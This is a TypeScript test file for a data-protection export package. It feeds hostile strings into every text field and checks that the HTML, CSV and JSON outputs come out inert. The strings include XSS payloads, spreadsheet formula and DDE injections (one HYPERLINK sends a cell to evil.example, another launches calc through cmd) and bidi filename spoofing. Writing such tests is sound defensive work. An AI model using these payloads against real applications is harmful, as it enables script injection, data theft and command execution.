import assert from 'node:assert/strict'
import { test } from 'node:test'
import { packageContents } from '../../../shared/domain/package/contents.ts'
import { manifestFor } from '../../../shared/domain/package/manifest.ts'
import type { PackageFacts } from '../../../shared/domain/package/package-facts.ts'
import { insurance, jsonOf, packageFacts, policies, textOf } from './package-samples.ts'

/** What people have put into names and messages to attack whoever opens them. */
const hostile = [
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  "' onmouseover='alert(1)",
  '</title></style></main><iframe src="https://evil.example">',
  'javascript:alert(1)',
  '=HYPERLINK("https://evil.example/?"&A1,"open")',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '-2+3;=1+1\t+1',
  'invoice\u202Efdp.exe',
  '\u2066hidden\u2069\u200f\ufeff',
  'line\u2028break\u2029\r\n=1+1',
  '\u0000\u001b[2J\u009b31m',
  '&lt;b&gt; &amp; &#x3c;',
  'https://evil.example/collect',
  '__proto__',
  '\ud800 lone',
]

/** Every text that anyone outside or inside can write, set to the same hostile one. */
function poisoned(text: string, right: PackageFacts['right']): PackageFacts {
  const both = { da: text, en: text }
  const [activity] = packageFacts().activities
  assert.ok(activity)
  return packageFacts({
    right,
    companyName: text,
    contact: text,
    dataProtectionOfficer: text,
    reference: text,
    authority: { name: text, url: text, address: text },
    sources: [
      {
        ...policies,
        label: text,
        informationType: text,
        collectedBy: text,
        template: {
          ...insurance,
          templateId: text,
          title: both,
          fields: insurance.fields.map((field) => ({ ...field, label: both, hint: both, category: text })),
          csv: [{ name: text, rows: '', columns: [{ header: text, pointer: '/name' }] }],
        },
        data: { name: text, riskClass: text, claims: [{ amount: text, note: text }] },
      },
    ],
    withheld: [{ description: text, groundCode: text, article: text, text }],
    activities: [
      {
        ...activity,
        informationTypes: [text],
        purposes: both,
        recipients: [text],
        retention: both,
        source: both,
      },
    ],
  })
}

for (const text of hostile)
  for (const right of ['access', 'portability'] as const)
    test(`comes out inert in the ${right} package: ${JSON.stringify(text)}`, () => {
      const facts = poisoned(text, right)
      const contents = packageContents(facts)
      const files = contents.map(({ bytes: _bytes, ...file }) => ({
        ...file,
        sha256: '0'.repeat(64),
        sizeBytes: 1,
      }))
      const { manifestJson, checksums } = manifestFor(facts, files, () => '0'.repeat(64))
      const all = [...contents, { path: 'manifest.json', mediaType: 'application/json', bytes: manifestJson }]

      for (const { path, mediaType, bytes } of all) {
        const content = textOf(bytes)
        assert.doesNotMatch(
          content.replace(/^\ufeff/u, ''),
          /\p{Bidi_Control}|\ufeff|[\u2028\u2029]|(?![\n\r\t])\p{Cc}/u,
          path,
        )
        if (mediaType === 'text/html') assertInertPage(content)
        if (mediaType === 'text/csv')
          assert.doesNotMatch(content, /(?:^\ufeff?|[",;\t\n])"*\s*[=@][A-Z\d]/mu, path)
        if (mediaType.endsWith('json')) assert.ok(!content.includes('<') && jsonOf(bytes) !== undefined, path)
      }
      assert.equal(textOf(checksums).trimEnd().split('\n').length, all.length + attachmentsIn(facts))
    })

const attachmentsIn = ({ right }: PackageFacts): number => (right === 'access' ? 2 : 1)

/** Only the tags and the attributes that our own pages are made of, each attribute with a value of ours. */
function assertInertPage(page: string): void {
  const tags = new Set(
    Array.from(page.matchAll(/<\/?([a-z!][a-z0-9]*)/giu), ([, name]) => name?.toLowerCase()),
  )
  const ours =
    '!doctype html head meta title style body main section h1 h2 p ul li dl dt dd table caption thead tbody tr th td a'
  for (const tag of tags) assert.ok(ours.split(' ').includes(tag ?? ''), tag)
  for (const [, href = ''] of page.matchAll(/href="([^"]*)"/gu))
    assert.match(href, /^(?:[A-Za-z0-9_./-]+|https:\/\/\S+)$/u)
  assert.doesNotMatch(page, /<[^>]*\son\w+\s*=|<[^>]*href=["']?(?:javascript|data):/iu)
}

test('the data themselves are unharmed: what was hostile reads back from the JSON as it was', () => {
  for (const text of hostile.filter((one) => one !== '\ud800 lone')) {
    const json = packageContents(poisoned(text, 'access')).find(({ path }) => /^data\/.*\.json$/u.test(path))
    assert.equal((jsonOf(json?.bytes) as { readonly name: string }).name, text)
  }
})
